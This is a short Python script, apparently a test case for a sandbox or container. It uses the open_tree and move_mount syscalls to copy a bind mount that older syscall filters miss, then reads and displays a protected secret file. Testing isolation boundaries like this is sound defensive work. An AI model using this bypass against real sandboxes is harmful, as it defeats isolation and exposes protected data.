# The same as a bind mount, with the calls that filters of old do not know.
import os

from calls import AT_FDCWD, call, own_mounts
from inside import run, show

OPEN_TREE_CLONE = 1
MOVE_MOUNT_F_EMPTY_PATH = 4


def attack(target):
    own_mounts()
    tree = call("open_tree", AT_FDCWD, os.path.dirname(target.secret).encode(), OPEN_TREE_CLONE)
    call("move_mount", tree, b"", AT_FDCWD, target.work.encode(), MOVE_MOUNT_F_EMPTY_PATH)
    with open(f"{target.work}/secret", "rb") as file:
        show(file.read())


run(attack)
